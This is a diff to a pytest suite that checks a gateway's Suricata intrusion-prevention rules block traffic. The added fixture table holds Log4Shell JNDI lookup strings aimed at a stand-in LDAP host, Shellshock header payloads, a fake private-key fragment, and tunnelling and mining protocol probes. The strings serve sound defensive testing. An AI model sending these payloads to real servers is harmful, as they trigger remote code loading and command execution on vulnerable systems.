@@ -19,6 +19,23 @@ HARMFUL = {
     "an exception": {"port": 8024, "says": TEST, "lasts": 1},
 }
 
+HELLO_SSL3 = "\x16\x03\x00\x00\x2d\x01\x00\x00\x29\x03\x00" + "0" * 32 + "\x00\x00\x02\x00\x0a\x01\x00"
+OWN_RULES: dict[str, tuple[int, dict[str, Any]]] = {
+    # what each of the role's own rules is to see (roles/gateway/files/kepil.rules), beside the test text
+    "JNDI in a path": (1000010, {"port": 80, "path": "/?${jndi:ldap://198.51.100.1/a}"}),
+    "JNDI in a header": (1000011, {"port": 80, "headers": ["User-Agent: ${jndi:ldap://198.51.100.1/a}"]}),
+    "JNDI in a cookie": (1000011, {"port": 80, "headers": ["Cookie: a=${jndi:ldap://198.51.100.1/a}"]}),
+    "a function for bash": (1000012, {"port": 80, "headers": ["Referer: () { :; }; echo"]}),
+    "the same in a cookie": (1000012, {"port": 80, "headers": ["Cookie: () { :; }; echo"]}),
+    "a private key": (1000013, {"port": 80, "sends": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE\n"}),
+    "SSH on 80": (1000020, {"port": 80, "says": "SSH-2.0-OpenSSH_10.0\r"}),
+    "SSH on 443": (1000020, {"says": "SSH-2.0-OpenSSH_10.0\r"}),
+    "BitTorrent on 80": (1000021, {"port": 80, "says": "\x13BitTorrent protocol" + "0" * 48}),
+    "BitTorrent on 443": (1000021, {"says": "\x13BitTorrent protocol" + "0" * 48}),
+    "mining, by an exception": (1000022, {"port": 8024, "says": '{"method": "mining.subscribe"}', "lasts": 1}),
+    "SSL 3": (1000023, {"says": HELLO_SSL3}),
+}
+
 
 def counted(gateway: Gateway, comment: str) -> int:
     """Packets that the gateway's rules with a comment met."""
@@ -44,6 +61,31 @@ def test_intrusion_prevention_drops_what_a_rule_names(gateway: Gateway) -> None:
     assert [TEST in each["body"] or each["length"] for each in stopped] == [0] * len(stopped), list(HARMFUL)
     assert page["body"] == "origin\n"
     assert tick["body"].startswith("tick\n")
+
+
+@pytest.mark.clause("LQ-A3-6")
+def test_each_of_its_own_rules_drops_what_it_is_for(gateway: Gateway) -> None:
+    """Application control and the plainest attacks: nothing is answered, and the journal names the rule and port."""
+    began = gateway.host.check_output("date +%s")
+    answers = gateway.ask(*({"name": gateway.sites["news"], "seconds": 2, **each} for _, each in OWN_RULES.values()))
+    assert {what: each["body"] for what, each in zip(OWN_RULES, answers, strict=True) if each["length"]} == {}
+    said = gateway.host.check_output(f"journalctl --identifier=suricata --output=cat --since=@{began}")
+    events = [json.loads(line) for line in said.splitlines() if line.startswith("{")]
+    seen = {
+        (each["alert"]["signature_id"], each["dest_port"])
+        for each in events
+        if each["event_type"] == "alert" and each["alert"]["action"] == "blocked"
+    }
+    assert {(sid, each.get("port", 443)) for sid, each in OWN_RULES.values()} - seen == set()
+
+
+@pytest.mark.clause("LQ-A3-6")
+def test_quic_does_not_pass(gateway: Gateway) -> None:
+    """Threat: browsers that speak UDP go round the proxy."""
+    reason = "QUIC goes round all of it"
+    before = counted(gateway, reason)
+    gateway.ask({"port": 443, "protocol": "udp", "says": "hello", "seconds": 0.2})
+    assert counted(gateway, reason) == before + 1
 
 
 @pytest.mark.clause("LQ-A3-6")
